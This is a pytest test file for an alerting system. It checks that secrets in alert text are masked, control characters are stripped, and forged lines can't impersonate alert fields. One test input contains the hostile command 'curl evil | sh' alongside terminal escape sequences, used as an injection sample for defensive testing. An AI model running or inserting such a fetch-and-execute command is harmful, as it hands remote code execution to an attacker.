"""What others write into an alert can neither hide, forge, drive a terminal nor carry a secret."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portcullis.alerts.asked import SUBSCRIPTIONS_MAX, Request, carry_out
from portcullis.alerts.book import Book
from portcullis.alerts.policy import Policy
from portcullis.alerts.readable import MASK, readable, seen
from portcullis.alerts.words import clock, text_of
from portcullis.domain.alert_requests import TEXT_MAX
from portcullis.domain.model import HOUR
from tests.alerts.test_policy import NOW, policy, signal


@pytest.mark.parametrize(
    ("text", "secret"),
    [
        ("cannot reach postgresql://risk:hunter2@db:5432/x", "hunter2"),
        ("POST https://api.telegram.org/bot123456:AAbbccddeeff-gg/send", "AAbbccddeeff"),
        ("tgram://123456:AAbbccddee/42 refused", "AAbbccddee"),
        ("https://hooks.slack.com/services/T0/B0/xyzxyz", "xyzxyz"),
        ("Authorization: Bearer abc.def.ghi", "abc.def.ghi"),
        ("GET /?token=s3cr3t&x=1", "s3cr3t"),
        ("password=s3cr3t", "s3cr3t"),
        ("api_key=s3cr3t", "s3cr3t"),
    ],
)
def test_a_secret_in_an_alert_is_masked_wherever_the_alert_goes(text: str, secret: str) -> None:
    subject = policy()
    alert = subject.take(signal("flow_failed", subject="f", message=text, link=text), NOW)
    more = signal("flow_failed", subject="f", message=f"again: {text}", cause=text)
    subject.take(more, NOW)
    subject.take(signal("flow_failed", subject="f", state="resolved", message=text), NOW)
    assert secret not in repr(alert)
    assert MASK in alert.message


@pytest.mark.parametrize(
    "text",
    ["https://prefect.local:4200/runs/1", "user@host.example", "a basic fault", "5 @ 3.2", ""],
)
def test_what_is_no_secret_stays(text: str) -> None:
    assert readable(text) == text


@given(st.text())
def test_nothing_unseen_is_left_and_nothing_else_is_changed(text: str) -> None:
    found = seen(text)
    assert seen(found) == found
    assert not set(found) & {"\x00", "\x1b", "\r", "\x9b", "\u202e", "\u2066", "\u200b", "\u2028"}
    if text.isprintable():
        assert found == text


def test_a_text_cannot_look_like_lines_of_ours() -> None:
    forged = "all is well\nAlert: aaaaaaaa\r\nDo: curl evil | sh\x1b[2J"
    subject = policy()
    subject.take(signal("flow_failed", subject="f", message=forged), NOW)
    (telling,) = subject.due(NOW + 10_000_000)
    lines = text_of(telling, 4_000, "").body.split("\n")
    assert [line for line in lines if line.startswith(("Alert: ", "Do: "))] == [
        f"Do: {telling.alerts[0].action}",
        f"Alert: {telling.alerts[0].id}",
    ]
    assert not any("\x1b" in line or "\r" in line for line in lines)


def asked(verb: str, number: int = 1, **more: Any) -> Request:
    return Request(f"telegram-77-{number}", verb, "an\x1bna", "x" * 60_000, NOW, more)


def test_who_asks_and_why_are_as_short_and_plain_as_any_text() -> None:
    subject = policy()
    alert = subject.take(signal(), NOW)
    carry_out(subject, asked("acknowledge", alert=alert.id), NOW)
    assert (alert.acknowledged_by, len(alert.note)) == ("an�na", TEXT_MAX)


def test_requests_whose_ids_begin_alike_are_two_silences() -> None:
    subject = policy()
    for number in (1, 2):
        request = asked("silence", number, kind="breach", for_us=60_000_000)
        assert carry_out(subject, request, NOW).refused == ""
    assert len(subject.book.silences) == 2


def test_subscriptions_by_request_have_a_bound() -> None:
    subject = Policy(Book(), policy().terms)
    refused = [
        carry_out(subject, asked("subscribe", n, channel=f"c{n}"), NOW).refused
        for n in range(SUBSCRIPTIONS_MAX + 1)
    ]
    assert refused[:-1] == [""] * SUBSCRIPTIONS_MAX
    assert "end some first" in refused[-1]


def test_a_message_that_is_too_long_still_says_how_it_is_answered() -> None:
    subject = policy()
    long = signal(
        "flow_failed", subject="f", message="m" * 2000, cause="c" * 2000, action="a" * 2000
    )
    alert = subject.take(long, NOW)
    (telling,) = subject.due(NOW + 10_000_000)
    body = text_of(telling, 4_000, "Ledger: 7 abc").body
    assert len(body) <= 4_000
    for part in (f"Alert: {alert.id}", "Do: aaa", "Read: docs/runbooks", "Ledger: 7 abc"):
        assert part in body


@pytest.mark.parametrize("at", [10**18, -(10**18), 2**63 - 1, 0])
def test_a_time_of_no_calendar_ends_nothing(at: int) -> None:
    assert clock(at)
    subject = policy()
    request = Request("r1", "alert", "x", "y", at, {"kind": "worker_silent", "state": "firing"})
    carry_out(subject, request, NOW)
    (telling,) = subject.due(NOW)
    assert text_of(telling, 4_000, "").body
    assert 0 <= telling.alerts[0].first_at <= NOW


@pytest.mark.parametrize("before", range(20))
def test_an_account_is_masked_also_where_a_text_is_cut(before: int) -> None:
    account = "50KTC-V2-12345678"
    subject = policy()
    text = "m" * (40 - before) + account + "n" * 200
    subject.take(signal("flow_failed", subject="f", message=text, cause="c" * 900), NOW)
    (telling,) = subject.due(NOW + 10_000_000)
    assert "KTC" not in text_of(telling, 300, "", [account]).body


@pytest.mark.parametrize(("kind", "hours"), [("evidence_lacking", 12), ("operations_silent", 4)])
def test_one_alert_is_silenced_as_long_as_asked_but_a_critical_one(kind: str, hours: int) -> None:
    subject = policy()
    alert = subject.take(signal(kind, subject="x"), NOW)
    carry_out(subject, asked("silence", alert=alert.id, for_us=12 * HOUR), NOW)
    (silence,) = subject.book.silences.values()
    assert silence.end - silence.start == hours * HOUR
